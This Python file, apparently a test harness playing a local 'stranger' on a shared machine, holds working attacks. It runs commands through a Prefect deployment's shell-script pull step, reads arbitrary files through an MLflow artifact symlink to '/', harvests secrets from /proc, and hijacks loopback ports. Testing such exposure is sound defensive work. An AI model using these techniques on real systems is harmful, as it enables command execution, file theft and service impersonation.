"""What a stranger on the machine tries: `python attacker.py STEP WORDS..`, with no package at all.

It prints what it got, as JSON; run it as another user than the servers'.
"""

import contextlib
import json
import re
import socket
import sys
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path


def ask(address, *, body=None, headers=None, method=None):
    """Return the status of an answer and what it holds."""
    content = None if body is None else json.dumps(body).encode()
    said = {"Content-Type": "application/json", **(headers or {})}
    request = urllib.request.Request(address, content, said, method=method)
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            return answer.status, answer.read(), dict(answer.headers)
    except urllib.error.HTTPError as error:
        with error:
            return error.code, error.read(), dict(error.headers)


def command(api, script, *, headers=None):
    """Have a worker run a command before a flow that need not exist; return the statuses."""
    statuses = []

    def post(path, body):
        status, content, _ = ask(f"{api}{path}", body=body, headers=headers)
        statuses.append(status)
        return json.loads(content).get("id", "0" * 8 + "-0000-4000-8000-" + "0" * 12)

    flow = post("/flows/", {"name": "stranger"})
    step = {"prefect.deployments.steps.run_shell_script": {"script": script}}
    words = {"name": "stranger", "work_pool_name": "compute", "entrypoint": "a.py:a"}
    deployment = post("/deployments/", {**words, "flow_id": flow, "pull_steps": [step]})
    state = {"state": {"type": "SCHEDULED"}}
    post(f"/deployments/{deployment}/create_flow_run", state)
    return statuses


def place(address, folder, target, *, headers=None):
    """Have MLflow read a file by an experiment whose files lie in a folder of one's own.

    Returns the statuses of making it, and of reading; 0 for what was never asked.
    """
    api = f"{address}/api/2.0/mlflow"
    made = {"name": "elsewhere", "artifact_location": folder}
    status, content, _ = ask(f"{api}/experiments/create", body=made, headers=headers)
    if status != 200:
        return [status, 0]
    begin = {"experiment_id": json.loads(content)["experiment_id"], "start_time": 1}
    _, content, _ = ask(f"{api}/runs/create", body=begin, headers=headers)
    run = json.loads(content)["run"]["info"]["run_id"]
    Path(folder, run).mkdir()
    Path(folder, run, "artifacts").symlink_to("/")
    read = f"{address}/get-artifact?run_uuid={run}&path={target.lstrip('/')}"
    return [status, ask(read, headers=headers)[0]]


def spy(secret, folder):
    """Return where a secret can be seen: in files, arguments and environments of processes."""
    places = [path for path in Path(folder).rglob("*") if not path.is_dir()]
    places += Path("/proc").glob("[0-9]*/cmdline")
    places += Path("/proc").glob("[0-9]*/environ")
    return [str(path) for path in places if secret in _content(path) and not _own(path)]


def take(port):
    """Try to listen on a port by every address that leads to loopback; return those that it got."""
    wanted = ["127.0.0.1", "127.0.0.1", "0.0.0.0", "::", "::ffff:127.0.0.1", "::1"]
    got = []
    for number, address in enumerate(wanted):
        option = socket.SO_REUSEPORT if number == 1 else socket.SO_REUSEADDR
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        with contextlib.suppress(OSError), socket.socket(family) as thief:  # taken, or no IPv6
            if family == socket.AF_INET6:
                thief.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
            thief.setsockopt(socket.SOL_SOCKET, option, 1)
            thief.bind((address, int(port)))
            thief.listen()
            got.append(address)
    return got


def watch(parent):
    """Take every port that arguments of a process's children name, until the input ends.

    Returns the ports that were named, and those that could be taken; each is then held.
    """
    named, held = set(), []
    threading.Thread(target=sys.stdin.read, daemon=True).start()
    waiting = threading.enumerate()[-1]
    while waiting.is_alive():
        for words in _arguments_below(int(parent)):
            for port in {*re.findall(r"\b\d{4,5}\b", words)} - named:
                named.add(port)
                with contextlib.suppress(OSError, OverflowError):
                    held.append(socket.create_server(("127.0.0.1", int(port))))
        time.sleep(0.02)
    return [sorted(named), [str(each.getsockname()[1]) for each in held]]


def _arguments_below(parent):
    """Return the arguments of all processes that a process started."""
    found = {}
    for folder in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError, IndexError):
            above = int((folder / "stat").read_text().rpartition(")")[2].split()[1])
            words = (folder / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            found[int(folder.name)] = (above, words)

    def below(number):
        return number == parent or (number in found and below(found[number][0]))

    return [words for number, (above, words) in found.items() if number and below(above)]


def _own(path):
    return path.match("/proc/*/cmdline") and b"attacker.py" in _content(path).encode()


def _content(path):
    try:
        return path.read_bytes().decode(errors="replace")
    except OSError:
        return ""


if __name__ == "__main__":
    step, *words = sys.argv[1:]
    if step == "spy":
        words[0] = sys.stdin.read()
    steps = {"command": command, "place": place, "spy": spy, "take": take, "watch": watch}
    print(json.dumps(steps[step](*words)))  # noqa: T201
